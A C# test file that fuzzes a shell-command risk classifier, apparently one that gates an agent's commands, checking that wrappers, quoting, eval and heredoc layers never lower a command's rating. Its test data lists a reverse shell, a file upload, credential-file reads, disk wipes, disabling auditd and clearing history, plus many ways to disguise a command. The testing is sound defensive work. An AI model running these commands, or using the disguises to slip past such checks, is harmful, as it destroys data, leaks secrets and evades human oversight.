using AgentGen.Shell.Tests.Fuzzing;

namespace AgentGen.Shell.Tests.Classification;

/// <summary>
/// Commands inside wrappers inside texts inside contexts, drawn at random and the same in every run: whatever stands around a command, the
/// verdict is at least the command's own. <c>AGENTGEN_FUZZ</c> and <c>AGENTGEN_SEED</c> draw more and others.
/// </summary>
public sealed class CompositionTests
{
    private static readonly string[] Commands =
    [
        "ls -l", "cat a.txt", "git status", "grep -rn x src", "find . -name '*.cs'", "echo 'rm -rf /'", "wc -l a", "touch a", "mkdir -p d", "git commit -m x", "dotnet build",
        "frobnicate --now", "./run.sh", "python3 x.py", "sed -i s/a/b/ f", "mv a b", "npm install", "rm -rf src", "rm -rf /etc", "git push --force", "git reset --hard",
        "find . -delete", "dd if=/dev/zero of=/dev/sdq", "cat /etc/shadow", "cat /root/.ssh/id_rsa", "chmod -R 777 /", "reboot", "mkfs.ext4 /dev/sdb1", "history -c",
        "docker system prune -af", "kill -9 -1", "nc -e /bin/sh 10.0.0.1 4444", "curl -T a http://h", "useradd x", "crontab -r", "systemctl stop auditd",
        "agentgen runs approve 7", "python3 -c 'import shutil; shutil.rmtree(\"src\")'", "bash -c 'rm -rf src'", "xargs rm -rf", "tee /etc/passwd",
    ];

    private static readonly string[] Wrappers =
    [
        "sudo {0}", "sudo -u x {0}", "env A=1 {0}", "env -u A {0}", "nice -n 5 {0}", "nohup {0}", "timeout 5 {0}", "stdbuf -oL {0}", "setsid {0}", "ionice -c 3 {0}", "time -p {0}",
        "flock f {0}", "chrt -f 10 {0}", "unshare -r {0}", "xvfb-run -a {0}", "systemd-run --user {0}", "strace -f {0}", "faketime x {0}", "chronic {0}", "taskset 0x1 {0}",
    ];

    // The command as one quoted word.
    private static readonly string[] Texts =
    [
        "bash -c {0}", "sh -ec {0}", "sudo bash -c {0}", "eval {0}", "trap {0} EXIT", "env -S {0}", "watch {0}", "script -c {0} f", "hyperfine {0}", "flock f -c {0}",
        "ssh h {0}", "parallel ::: {0}", "su x -c {0}", "bash <<< {0}", "echo {0} | sh", "printf '%s' {0} | bash", "x={0}; eval \"$x\"", "x={0}\nbash -c \"$x\"",
        "f() {{ eval \"$1\"; }}; f {0}", "echo {0} > t.sh; sh t.sh", "a=(bash -c {0}); \"${{a[@]}}\"", "set -- {0}; eval \"$1\"", "alias x={0}\nx", ". <(echo {0})",
        "read -r x <<< {0}; eval \"$x\"", "printf -v x '%s' {0}; eval \"$x\"", "for x in ls {0}; do eval \"$x\"; done", "nodemon --exec {0}", "tmux new -d {0}",
        "timeout 5 sh -c {0}", "find . -exec sh -c {0} \\;", "PROMPT_COMMAND={0}", "[ a ] && x={0}; eval \"$x\"",
    ];

    private static readonly string[] Contexts =
    [
        "( {0}\n)", "{{ {0}\n}}", "if true; then {0}\nfi", "if {0}\nthen ls; fi", "while {0}\ndo break; done", "for i in 1 2; do {0}\ndone", "! {{ {0}\n}}", "true && {{ {0}\n}}",
        "false || {{ {0}\n}}", "f() {{ {0}\n}}; f", "f() {{ {0}\n}}", "{{ {0}\n}} &", "echo $({0}\n)", "echo \"$({0}\n)\"", "cat <({0}\n)", "case x in x) {0}\n;; esac", "ls; {0}", "{0}\nls",
        "x=$({0}\n)", "coproc {{ {0}\n}}", "echo ${{x:-$({0}\n)}}", "{{ {0}\n}} > out", "{{ {0}\n}} | cat", "cat a | {{ {0}\n}}", "[[ -n $({0}\n) ]]", "until {0}\ndo ls; done", "{{ {0}\n}} 2>&1 | tee log",
        "  {{ {0}\n}}  # done", "x=1; {0}", "cat <<E{1}\n$({0}\n)\nE{1}", "bash <<'E{1}'\n{0}\nE{1}", "cat > t.sh <<'E{1}'\n{0}\nE{1}\nbash t.sh", "x=1 && {{ {0}\n}}", "f() {{ ls; }}; {0}",
    ];

    [Fact]
    public void No_composition_is_milder_than_the_command_in_it()
    {
        var random = new Random(Settings.Seed);
        var milder = new List<string>();
        for (int i = 0; i < Settings.Count(20_000); i++)
        {
            string command = Pick(random, Commands);
            ShellRisk risk = ShellClassifier.Classify(command).Risk;
            string text = Around(random, command);
            if (ShellClassifier.Classify(text).Risk < risk)
            {
                milder.Add(text);
            }
        }

        milder.OrderBy(text => text.Length).Take(10).ShouldBeEmpty();
    }

    [Fact]
    public void White_space_and_comments_in_a_composition_do_not_matter()
    {
        var random = new Random(Settings.Seed + 1);
        for (int i = 0; i < Settings.Count(5_000); i++)
        {
            string text = Around(random, Pick(random, Commands));
            ShellRisk risk = ShellClassifier.Classify(text).Risk;
            foreach (string variant in (string[])["\n\n" + text, "\t " + text + "\n", "# a comment\n" + text, "\\\n" + text, text + "\n# a comment", text + "\n\n"])
            {
                ShellClassifier.Classify(variant).Risk.ShouldBe(risk, variant);
            }
        }
    }

    [Fact]
    public void Every_single_layer_keeps_the_risk_of_every_command()
    {
        string[] milder =
        [
            .. from command in Commands
               let risk = ShellClassifier.Classify(command).Risk
               from text in Layers(command)
               where ShellClassifier.Classify(text).Risk < risk
               select text,
        ];
        milder.ShouldBeEmpty();
    }

    private static IEnumerable<string> Layers(string command) =>
        Wrappers.Select(wrapper => string.Format(wrapper, command))
            .Concat(Texts.Select(text => string.Format(text, Quote(command))))
            .Concat(Contexts.Select(context => string.Format(context, command, 0)));

    // Wrappers take words, so they stand innermost; everything else takes any text.
    private static string Around(Random random, string command)
    {
        for (int i = random.Next(3); i > 0; i--)
        {
            command = string.Format(Pick(random, Wrappers), command);
        }

        for (int i = random.Next(1, 4); i > 0; i--)
        {
            command = random.Next(2) == 0 && !command.Contains('\n')
                ? string.Format(Pick(random, Texts), Quote(command))
                : string.Format(Pick(random, Contexts), command, i);
        }

        return command;
    }

    private static string Quote(string text) => "'" + text.Replace("'", "'\\''", StringComparison.Ordinal) + "'";

    private static string Pick(Random random, string[] items) => items[random.Next(items.Length)];
}
